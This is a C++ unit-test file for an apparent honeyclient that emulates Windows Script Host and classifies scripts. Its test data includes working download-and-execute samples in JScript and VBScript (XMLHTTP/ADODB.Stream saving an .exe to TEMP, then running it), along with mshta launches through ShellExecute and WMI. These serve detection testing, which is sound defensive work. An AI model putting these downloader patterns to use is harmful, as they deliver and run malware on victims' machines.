@@ -1,0 +1,200 @@
+// Script files under the stand-ins of Windows Script Host. The programs in them are specimens: a header, and
+// nothing that would run.
+#include "honeyclient/low/script_file.h"
+
+#include <gmock/gmock.h>
+
+#include "honeyclient/low/visit_test.h"
+
+namespace shikake::honeyclient::low {
+namespace {
+
+using ::testing::Contains;
+using ::testing::HasSubstr;
+
+TEST(ScriptFile, IsKnownByItsName) {
+  const struct {
+    std::string_view name, type;
+  } rows[] = {
+      {"a.vbs", "application/x-wsh-vbscript"}, {"A.JS", "application/x-wsh-jscript"},
+      {"x.wsf", "application/x-wsh-wsf"},      {"x.hta", "application/hta"},
+      {"x.vbe", "application/x-wsh-vbscript"}, {"x.jse", "application/x-wsh-jscript"},
+      {"x.html", ""},                          {"vbs", ""},
+      {"", ""},
+  };
+  for (const auto& row : rows) {
+    EXPECT_EQ(script_file_type(row.name), row.type) << row.name;
+    EXPECT_EQ(is_script_file_type(row.type), !row.type.empty()) << row.name;
+  }
+}
+
+std::string specimen_program() {
+  std::string body(256, '\0');
+  body.replace(0, 2, "MZ");
+  body[60] = 64;
+  body.replace(64, 4, std::string("PE\0\0", 4));
+  return body;
+}
+
+intel::VisitRecord inspect(const Sites& sites, std::string_view file, const std::string& text,
+                           BlobSink& blobs) {
+  VisitOptions options = local_visit("http://file.invalid/" + std::string(file));
+  options.persona = script_file_persona;
+  options.content = sites.filled(text);
+  options.content_type = script_file_type(file);
+  return visit_or_fail(options, blobs);
+}
+intel::VisitRecord inspect(const Sites& sites, std::string_view file, const std::string& text) {
+  NoBlobs blobs;
+  return inspect(sites, file, text, blobs);
+}
+
+struct Row {
+  const char* name;
+  const char* file;
+  std::string text;
+  std::vector<std::string> said;
+};
+class ScriptFiles : public ::testing::TestWithParam<Row> {};
+
+TEST_P(ScriptFiles, Run) {
+  const Row& row = GetParam();
+  Sites sites({});
+  intel::VisitRecord visit = inspect(sites, row.file, row.text);
+  EXPECT_EQ(events_of(visit, "dialog"), row.said);
+  for (const std::string& error : events_of(visit, "error")) ADD_FAILURE() << error;
+  EXPECT_EQ(intel::name(visit.verdict), "benign");
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Rows, ScriptFiles,
+    ::testing::Values(
+        Row{"vbs", "a.vbs", "WScript.Echo \"a\" & 1 + 1\nMsgBox WScript.ScriptName", {"Echo: a2", "MsgBox: a.vbs"}},
+        Row{"js", "a.js", "WScript.Echo(typeof document, typeof WScript.CreateObject);", {"Echo: undefined function"}},
+        Row{"wsf",
+            "a.wsf",
+            "<?xml version='1.0'?>\n<job id='x'>\n<script language='VBScript'><![CDATA[\nFunction two()\ntwo = 2\n"
+            "End Function\n]]></script>\n<script language='JScript'>WScript.Echo(two() + 1);</script></job>",
+            {"Echo: 3"}},
+        Row{"hta",
+            "a.hta",
+            "<html><script language=VBScript>MsgBox TypeName(CreateObject(\"WScript.Shell\"))</script></html>",
+            {"MsgBox: Object"}},
+        // Made by the encoder's tables from: WScript.Echo "a<b>@" & 1 + 1, and an echo of letters and digits.
+        Row{"vbe",
+            "a.vbe",
+            "#@~^ZAAAAA==\tUm.bwDR21tK~Jm@!8@*@$J~',FP3~F@#@&U^.kaYc2^tG~\"+2Vm^+vJC81N+WL4k%3^h\tW2$DkY"
+            "E7hXzyZF+&W*{R,JB~J$J~,E}J*nB4AAA==^#~@",
+            {"Echo: a<b>@2", "Echo: abcdefghijklmnopQrstuvwxyz0123456789"}},
+        Row{"jse",
+            "a.jse",
+            "#@~^IQAAAA==\tUm.bwDR21tKcBaVCk\tPv~3P`8~_,F#*IEAkAAA==^#~@",
+            {"Echo: plain 2"}},
+        Row{"half_encoded", "a.js", "WScript.Echo('#@~^' + 1);", {"Echo: #@~^1"}},
+        Row{"quit", "a.vbs", "WScript.Echo 1\nWScript.Quit\nWScript.Echo 2", {"Echo: 1"}},
+        Row{"quit_js", "a.js", "try { WScript.Quit(0); } catch (e) {} WScript.Echo('not reached');", {}},
+        Row{"sleep",
+            "a.js",
+            "var t = new Date(); WScript.Sleep(90000); WScript.Echo(new Date() - t >= 90000);",
+            {"Echo: true"}},
+        Row{"no_arguments", "a.vbs", "WScript.Echo WScript.Arguments.Count & WScript.Arguments.Length", {"Echo: 00"}},
+        Row{"dictionary_in_vbscript",
+            "a.vbs",
+            "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"a\", 1\nd(\"b\") = 2\nd.Item(\"c\") = 3\n"
+            "WScript.Echo d.Count & d(\"b\") & d.Item(\"c\") & d.Exists(\"z\")",
+            {"Echo: 323False"}},
+        Row{"console", "a.js", "WScript.StdOut.WriteLine('x'); WScript.Echo(WScript.FullName.length > 0)", {"Echo: true"}},
+        Row{"utf_16",
+            "a.vbs",
+            std::string("\xFF\xFEM\0s\0g\0B\0o\0x\0 \0" "1\0", 18),
+            {"MsgBox: 1"}}),
+    [](const auto& row) { return row.param.name; });
+
+// A downloader: what it fetches, writes and runs is in the record, and the fetched bytes' server is named.
+TEST(ScriptFile, ADownloaderIsConvictedWithWhatItFetched) {
+  Sites sites({{"/p.bin", "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n" + specimen_program()}});
+  const struct {
+    const char* name;
+    const char* file;
+    std::string text;
+  } rows[] = {
+      {"js", "a.js",
+       "var x = WScript.CreateObject('MSXML2.XMLHTTP'); x.open('GET', '{a}/p.bin', false); x.send();"
+       "var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Type = 1; s.Write(x.ResponseBody);"
+       "var p = new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%') + '\\\\specimen.exe';"
+       "s.SaveToFile(p, 2); s.Close(); new ActiveXObject('WScript.Shell').Run(p, 0, false);"},
+      {"vbs", "a.vbs",
+       "Set x = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nx.Open \"GET\", \"{a}/p.bin\", False\nx.Send\n"
+       "Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write x.ResponseBody\n"
+       "p = CreateObject(\"Scripting.FileSystemObject\").GetSpecialFolder(2) & \"\\specimen.exe\"\n"
+       "s.SaveToFile p, 2\nCreateObject(\"Shell.Application\").ShellExecute p\n"},
+  };
+  for (const auto& row : rows) {
+    SCOPED_TRACE(row.name);
+    KeptBlobs blobs;
+    intel::VisitRecord visit = inspect(sites, row.file, row.text, blobs);
+    EXPECT_EQ(intel::name(visit.verdict), "malicious");
+    EXPECT_THAT(visit.reasons, Contains(HasSubstr("and had it run")));
+    EXPECT_THAT(events_of(visit, "file"), Contains(HasSubstr("specimen.exe: a Windows program of 256 bytes")));
+    EXPECT_THAT(events_of(visit, "command"), Contains(HasSubstr("specimen.exe")));
+    ASSERT_EQ(visit.nodes.size(), 2u);
+    EXPECT_EQ(visit.nodes[1].role, intel::Role::distribution);
+    EXPECT_EQ(blobs.kept.count(visit.nodes[1].sha256->hex()), 1u);
+    for (const std::string& error : events_of(visit, "error")) ADD_FAILURE() << error;
+  }
+}
+
+TEST(ScriptFile, VerdictsOfFilesAndCommands) {
+  Sites sites({{"/next", "x"}});
+  const struct {
+    const char* name;
+    const char* file;
+    std::string text;
+    std::string_view verdict;
+  } rows[] = {
+      {"a_command_that_fetches", "a.vbs", "CreateObject(\"Shell.Application\").ShellExecute \"mshta\", \"{a}/next\"",
+       "malicious"},
+      {"wmi_process", "a.vbs",
+       "GetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create \"mshta {a}/next\"", "malicious"},
+      {"a_command", "a.js", "WScript.CreateObject('WScript.Shell').Run('notepad', 1);", "suspicious"},
+      {"a_harmless_note", "a.vbs",
+       "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\note.txt\")\nf.Write \"x\"\n"
+       "f.Close",
+       "benign"},
+      {"a_dropped_program", "a.vbs",
+       "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\s.exe\")\nf.Write \"MZ\" & "
+       "String(58, Chr(0)) & Chr(64) & String(3, Chr(0)) & \"PE\" & String(60, Chr(0))\nf.Close",
+       "suspicious"},
+  };
+  for (const auto& row : rows)
+    EXPECT_EQ(intel::name(inspect(sites, row.file, row.text).verdict), row.verdict) << row.name;
+}
+
+TEST(ScriptFile, PagesRunVbScriptInUrlsAndTimers) {
+  const struct {
+    const char* name;
+    std::string page;
+    const char* persona;
+    std::vector<std::string> said;
+  } rows[] = {
+      {"location", "<script>location = 'vbscript:MsgBox 1 & 2'</script>", "ie8-winxp", {"MsgBox: 12"}},
+      {"iframe", "<iframe src='vbscript:MsgBox 3'></iframe>", "ie6-winxp", {"MsgBox: 3"}},
+      {"timeout", "<script>setTimeout('MsgBox 4 & 5', 10, 'VBScript')</script>", "ie8-winxp", {"MsgBox: 45"}},
+      {"interval",
+       "<script>var t = setInterval('clearInterval(t) : MsgBox 6', 10, 'vbscript')</script>", "ie8-winxp",
+       {"MsgBox: 6"}},
+      {"encoded", "<script language='JScript.Encode'>" "#@~^DQAAAA==C^+.D`8P_,F*IcQMAAA==^#~@" "</script>", "ie8-winxp", {"alert: 2"}},
+      {"exec_script", "<script>execScript('MsgBox 7', 'VBScript')</script>", "ie8-winxp", {"MsgBox: 7"}},
+      {"elsewhere", "<script>location = 'vbscript:MsgBox 1'</script>", "chrome-win10", {}},
+  };
+  for (const auto& row : rows) {
+    VisitOptions options = local_visit("http://page.example/");
+    options.offline = true;
+    options.persona = row.persona;
+    options.content = row.page;
+    EXPECT_EQ(events_of(visit_or_fail(options), "dialog"), row.said) << row.name;
+  }
+}
+
+}  // namespace
+}  // namespace shikake::honeyclient::low
